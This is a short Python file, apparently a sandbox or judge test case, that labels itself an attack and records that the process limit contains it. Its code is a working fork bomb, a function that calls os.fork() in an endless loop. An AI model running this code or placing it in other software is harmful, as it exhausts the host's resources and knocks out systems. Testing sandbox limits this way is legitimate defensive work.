# attack: a fork bomb that never waits for its children
# held by: the limit on processes; pid 1 of the sandbox takes all of them with it
# outcome: time-limit
import os


def f(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
